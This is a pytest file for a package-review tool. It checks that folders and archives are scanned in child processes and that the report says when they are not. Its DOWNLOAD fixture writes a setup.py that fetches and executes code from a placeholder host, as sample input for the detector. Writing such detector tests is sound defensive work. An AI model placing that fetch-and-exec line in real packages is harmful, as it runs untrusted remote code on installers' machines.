"""Artifacts and folders reviewed in children: beside threads too, and never in silence without limits."""

import threading

import pytest

from pratique import batch
from pratique.batch import Work, review_all, review_folder
from pratique.cache import Cache
from pratique.ecosystems.pypi.filenames import describe
from pratique.pipeline import Options
from pratique.pool import PoolUnavailable, supported
from pratique.report import render

pytestmark = pytest.mark.skipif(not supported(), reason="no children on this platform")
DOWNLOAD = b"import os, urllib.request\nexec(urllib.request.urlopen('http://files.invalid/a').read())\n"


@pytest.fixture
def folder(tmp_path):
    place = tmp_path / "acme"
    (place / "acme").mkdir(parents=True)
    (place / "setup.py").write_bytes(DOWNLOAD)
    (place / "acme" / "__init__.py").write_bytes(b"VERSION = 1\n")
    return place


@pytest.fixture
def another_thread():
    go = threading.Event()
    thread = threading.Thread(target=go.wait)
    thread.start()
    yield
    go.set()
    thread.join()


def test_a_folder_is_read_by_a_child(folder):
    found = review_folder(folder, Options(), cache=Cache(None))

    assert found.verdict.level in {"look", "block"}
    assert found.artifact.kind == "folder"
    assert (found.read.code_files, found.cost.unlimited) == (2, "")
    assert found.cost.peak_mb > 0


def test_a_folder_is_read_by_a_child_beside_threads(folder, another_thread):
    found = review_folder(folder, Options(), cache=Cache(None))

    assert found.verdict.level in {"look", "block"}
    assert found.cost.unlimited == ""


@pytest.mark.parametrize("jobs", [0, 1])
def test_without_limits_the_review_says_so(monkeypatch, jobs):
    """Where no process can be started the review goes on in this one, and says it."""

    class Unavailable(batch.Pool):
        def __init__(self, *args, jobs=None, **kwargs):
            if jobs:
                raise PoolUnavailable("nothing can be forked here")
            super().__init__(*args, jobs=jobs, **kwargs)

    monkeypatch.setattr(batch, "Pool", Unavailable)
    work = Work(artifact=describe("acme-1.0.zip", DOWNLOAD), data=DOWNLOAD)

    (found,) = review_all([work], Options(), jobs=jobs, cache=Cache(None))

    assert ("nothing can be forked here" if jobs else "no child process was asked for") in found.cost.unlimited
    assert "read without the limits of a child process" in render("text", [found])
